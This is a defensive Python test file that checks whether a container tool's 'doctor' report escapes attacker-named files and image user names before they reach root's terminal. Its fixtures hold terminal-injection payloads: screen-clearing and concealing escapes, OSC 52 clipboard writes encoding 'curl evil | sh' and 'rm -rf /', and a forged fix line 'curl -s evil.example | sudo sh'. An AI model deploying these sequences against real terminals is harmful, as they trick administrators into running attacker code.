# SPDX-License-Identifier: GPL-2.0-or-later
"""Red-team finding: doctor's text output carried attacker-chosen control
bytes to root's terminal.

The attacker (shiftfs-atk) owns a tree root examines, and builds the
container image's /etc/passwd and /etc/group. It names files with ESC
sequences (clear screen, cursor up, erase line, conceal), CR, OSC 0 and
OSC 52 (writes the admin's clipboard), BEL, DEL, raw C1 bytes, UTF-8 C1
(U+009B, CSI) and a direction override (U+202E); one name forges a whole
"Fixes, best first:" block. Then:
- stdout and stderr of `shiftctl doctor` (text) hold no byte a terminal
  acts on: no C0 control but the newline ending each line, no DEL, no byte
  that is not UTF-8, no C1 or direction control code point;
- each name appears escaped as tty_escape() documents (\\xHH, \\n, \\\\);
- the report has one "Fixes, best first:" block, whose lines are all the
  report's own (numbered fixes and indented commands);
- a fix command is printed only when it is terminal-safe, and then pasting
  it into sh (printf in place of the command) names the literal path;
  otherwise a "# not shown" line says why, and --json has it exactly.
Beside each: ordinary and UTF-8 names (é, 日本) are printed as they are and
their commands work."""
import json
import os
import re
import subprocess

import pytest

from attack import ATTACKER, as_host_user, uid_of
from conftest import SHIFTCTL, need
from fs_util import Scratch

TIMEOUT = 60
MAP = b"--map=0:100000:65536"

FORGED = (b"y\r\x1b[K\n\nFixes, best first:\n  1. Rewrite the owners on "
          b"disk once:\n       curl -s evil.example | sudo sh\n\x1b[8m")
HOSTILE = {
    "title_clear": b"x\x1b]0;OWNED\x07\x1b[2J\x1b[31mFAKE",
    "cursor_cr": b"f\x1b[1A\x1b[Kok\rline",
    "forged_fixes": FORGED,
    "osc52": b"c\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "conceal": b"h\x1b[8mhidden",
    "bel": b"b\x07el",
    "del": b"d\x7fel",
    "c1_raw": b"k\x9b2J\x9d0;t\x9c",
    "c1_utf8": b"u\xc2\x9b2J\xc2\x85",
    "bidi": b"r\xe2\x80\xaetxt.exe",
    "tab_nl": b"t\tab\nnl",
}


def tty_escape(b):
    """What shiftctl(1) OUTPUT documents for text output."""
    out = bytearray()
    text = b.decode("utf-8", "surrogateescape")
    for ch in text:
        o = ord(ch)
        if ch == "\\":
            out += b"\\\\"
        elif ch == "\n":
            out += b"\\n"
        elif 0xdc80 <= o <= 0xdcff:
            out += b"\\x%02x" % (o - 0xdc00)
        elif (o < 0x20 or o == 0x7f or 0x80 <= o <= 0x9f or
              o in (0x200e, 0x200f) or 0x202a <= o <= 0x202e or
              0x2066 <= o <= 0x2069):
            out += b"".join(b"\\x%02x" % c for c in ch.encode())
        else:
            out += ch.encode()
    return bytes(out)


def terminal_unsafe(data):
    """The bytes or code points of data a terminal could act on, other
    than the newline ending a line: [] when the output is clean."""
    bad = []
    text = data.decode("utf-8", "surrogateescape")
    for i, ch in enumerate(text):
        o = ord(ch)
        if ch == "\n":
            continue
        if (o < 0x20 or o == 0x7f or 0x80 <= o <= 0x9f or
                0xdc80 <= o <= 0xdcff or o in (0x200e, 0x200f) or
                0x202a <= o <= 0x202e or 0x2066 <= o <= 0x2069):
            bad.append((i, hex(o)))
    return bad


@pytest.fixture
def lab():
    need(os.geteuid() == 0, "doctor runs as root here")
    uid_of(ATTACKER)
    s = Scratch("shiftfs-doctor-tty")
    top = s.p("tree")
    os.mkdir(top)
    os.chown(top, uid_of(ATTACKER), uid_of(ATTACKER))
    yield s, os.fsencode(top)
    s.cleanup()


def as_attacker(script, *args):
    r = as_host_user(ATTACKER, ["/usr/bin/python3", "-c", script] +
                     [a.hex() for a in args])
    assert r.returncode == 0, r.stderr
    return r


MAKE_VOLUME = """
import os, sys
top, vol, name = (bytes.fromhex(a) for a in sys.argv[1:4])
p = os.path.join(top, vol)
os.mkdir(p)
f = os.path.join(p, name)
if name.startswith(b"x"):
    os.mkdir(f, 0o700)
else:
    open(f, "w").write("x")
    os.chmod(f, 0o600)
"""


def make_volume(top, vol, name):
    """The attacker's volume top/vol with one entry `name` USER 1000 of a
    --map container cannot read (a sample line names it)."""
    as_attacker(MAKE_VOLUME, top, vol, name)
    return os.path.join(top, vol)


def doctor(*args):
    return subprocess.run([os.fsencode(SHIFTCTL), b"doctor"] + list(args),
                          capture_output=True, timeout=TIMEOUT,
                          stdin=subprocess.DEVNULL)


def assert_clean(r):
    assert terminal_unsafe(r.stdout) == [], r.stdout
    assert terminal_unsafe(r.stderr) == [], r.stderr


def fixes_block(out):
    """The lines after "Fixes, best first:": each one of the report's own
    (a numbered fix, or an indented command or comment)."""
    lines = out.split(b"\n")
    starts = [i for i, l in enumerate(lines) if l == b"Fixes, best first:"]
    assert len(starts) == 1, out
    block = [l for l in lines[starts[0] + 1:] if l]
    assert block
    for l in block:
        assert re.match(rb"^  [1-8]\. [A-Z]|^       [a-z#]", l), (l, out)
    return block


def shell_words(line, cwd):
    """What sh makes of line: printf in place of its first word."""
    out = subprocess.run(
        [b"sh", b"-c", b"set -- " + line.split(b" ", 1)[1].split(b"   #")[0] +
         b"; printf '%s\\0' \"$@\""],
        capture_output=True, timeout=10, cwd=cwd)
    assert out.returncode == 0, out.stderr
    return out.stdout.split(b"\0")[:-1]


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_entry_names_reach_the_terminal_escaped(lab, kind):
    s, top = lab
    name = HOSTILE[kind]
    vol = make_volume(top, b"vol", name)
    r = doctor(vol, MAP, b"--user=1000")
    assert r.returncode == 1, r.stderr
    assert_clean(r)
    assert b"      e.g. " + tty_escape(name) + b": read: " in r.stdout, \
        r.stdout
    block = fixes_block(r.stdout)
    assert any(l.startswith(b"       shiftctl chown ") for l in block)
    assert b"evil.example" not in b"\n".join(block)
    for l in block:
        if l.startswith(b"       shiftctl "):
            assert os.path.realpath(vol) in shell_words(l.strip(), s.path)


def test_forged_fixes_block_is_one_visible_line(lab):
    """The name that forges a Fixes block shows on its one sample line,
    every control visible, the conceal (SGR 8) disarmed."""
    s, top = lab
    vol = make_volume(top, b"vol", FORGED)
    r = doctor(vol, MAP, b"--user=1000")
    sample = [l for l in r.stdout.split(b"\n") if l.startswith(b"      e.g. y")]
    assert len(sample) == 1, r.stdout
    assert b"\\x0d\\x1b[K\\n\\nFixes, best first:\\n" in sample[0]
    assert sample[0].count(b"\\x1b[8m") == 1
    assert r.stdout.count(b"\x1b") == 0


VOL_NAMES = {
    "esc_clear": b"v\x1b[2Jol",
    "osc52": b"v\x1b]52;c;cm0gLXJmIC8=\x07",
    "newline": b"v\nFixes, best first:",
    "del": b"v\x7fol",
    "not_utf8": b"v\xffol",
    "c1_utf8": b"v\xc2\x9bol",
}


@pytest.mark.parametrize("kind", sorted(VOL_NAMES))
def test_volume_path_with_controls_commands_not_shown(lab, kind):
    """The volume's own name holds control bytes: the Volume line and
    notes show it escaped, and no fix command is printed raw (it would
    either drive the terminal or not name the path when pasted); --json
    still has every command exactly."""
    s, top = lab
    name = VOL_NAMES[kind]
    vol = make_volume(top, name, b"f")
    real = os.path.realpath(vol)
    r = doctor(vol, MAP, b"--user=1000")
    assert r.returncode == 1, r.stderr
    assert_clean(r)
    assert (b"Volume " + tty_escape(real) + b", container USER 1000 ") \
        in r.stdout, r.stdout
    block = fixes_block(r.stdout)
    shown = [l for l in block if l.startswith(b"       shiftctl ")]
    hidden = [l for l in block if l.startswith(b"       # not shown: ")]
    assert not [l for l in shown if b" chown " in l], block
    assert hidden, block
    assert b"--json gives it exactly" in hidden[0]
    r = doctor(vol, MAP, b"--user=1000", b"--json")
    doc = json.loads(r.stdout.decode("utf-8"))
    cmds = [c for f in doc["fixes"] for c in f["commands"]]
    hexes = [bytes.fromhex(h) for f in doc["fixes"]
             for h in f.get("commands_hex", [])]
    lines = hexes or [c.encode() for c in cmds]
    chown = [l for l in lines if l.startswith(b"shiftctl chown ")]
    assert chown and shell_words(chown[0], s.path)[-1] == real


@pytest.mark.parametrize("name", ["données", "日本語-data", "plain_name-1.0",
                                  "back\\slash"])
def test_legit_names_print_as_they_are(lab, name):
    """Ordinary and UTF-8 names are printed unchanged (a backslash shows
    doubled, so that \\x1b in a name cannot pass for an escape), and the
    commands naming such a volume are printed and paste correctly."""
    s, top = lab
    b = name.encode()
    vol = make_volume(top, b, b)
    real = os.path.realpath(vol)
    r = doctor(vol, MAP, b"--user=1000")
    assert r.returncode == 1, r.stderr
    assert_clean(r)
    shown = b.replace(b"\\", b"\\\\")
    assert b"      e.g. " + shown + b": read: " in r.stdout, r.stdout
    assert b"Volume " + real.replace(b"\\", b"\\\\") + b", " in r.stdout
    block = fixes_block(r.stdout)
    chown = [l for l in block if l.startswith(b"       shiftctl chown ")]
    assert chown, block
    assert not [l for l in block if l.startswith(b"       # not shown")]
    assert shell_words(chown[0].strip(), s.path)[-1] == real


MAKE_IMAGE = """
import os, sys
root, pwname, grname = (bytes.fromhex(a) for a in sys.argv[1:4])
os.makedirs(os.path.join(root, b"etc"))
open(os.path.join(root, b"etc/passwd"), "wb").write(
    b"root:x:0:0::/root:/bin/sh\\n" + pwname + b":x:1000:1000::/h:/bin/sh\\n")
open(os.path.join(root, b"etc/group"), "wb").write(
    b"root:x:0:\\n" + grname + b":x:1000:\\nextra:x:1001:" + pwname + b"\\n")
"""

PW_NAMES = {
    "clear_red": b"app\x1b[2J\x1b[31mEVIL",
    "conceal": b"app\x1b[8m",
    "osc52": b"app\x1b]52;c;ZXZpbA==\x07",
    "cr_bel": b"app\rroot\x07",
    "c1": b"app\xc2\x9b8m",
}


@pytest.mark.parametrize("kind", sorted(PW_NAMES))
def test_image_passwd_names_escaped(lab, kind):
    """A user and group name from the image's passwd and group (the
    attacker built the image) are shown escaped, by uid and by name, and
    in the failure message when the name is not found."""
    s, top = lab
    pwname = PW_NAMES[kind]
    img = s.p("img")
    os.mkdir(img)
    os.chown(img, uid_of(ATTACKER), uid_of(ATTACKER))
    as_attacker(MAKE_IMAGE, os.fsencode(img), pwname, pwname + b"-grp")
    vol = make_volume(top, b"vol", b"f")
    rootfs = b"--rootfs=" + os.fsencode(img)
    for user in (b"1000", pwname):
        r = doctor(vol, MAP, b"--user=" + user, rootfs)
        assert r.returncode == 1, r.stderr
        assert_clean(r)
        assert b"uid 1000 (" + tty_escape(pwname) + b") is host uid 101000" \
            in r.stdout, r.stdout
        assert b"supplementary groups: 1001 (host 101001)" in r.stdout
        fixes_block(r.stdout)
    assert (b"container USER " + tty_escape(pwname) + b" (rw needed)") \
        in r.stdout
    r = doctor(vol, MAP, b"--user=" + pwname + b"x", rootfs)
    assert r.returncode == 1
    assert_clean(r)
    assert tty_escape(pwname + b"x") in r.stderr, r.stderr


def test_image_passwd_plain_name_unchanged(lab):
    s, top = lab
    img = s.p("img")
    os.mkdir(img)
    os.chown(img, uid_of(ATTACKER), uid_of(ATTACKER))
    as_attacker(MAKE_IMAGE, os.fsencode(img), "appé".encode(), b"app")
    vol = make_volume(top, b"vol", b"f")
    r = doctor(vol, MAP, "--user=appé".encode(), b"--rootfs=" +
               os.fsencode(img))
    assert r.returncode == 1, r.stderr
    assert "uid 1000 (appé) is host uid 101000".encode() in r.stdout
    assert "container USER appé (rw needed)".encode() in r.stdout
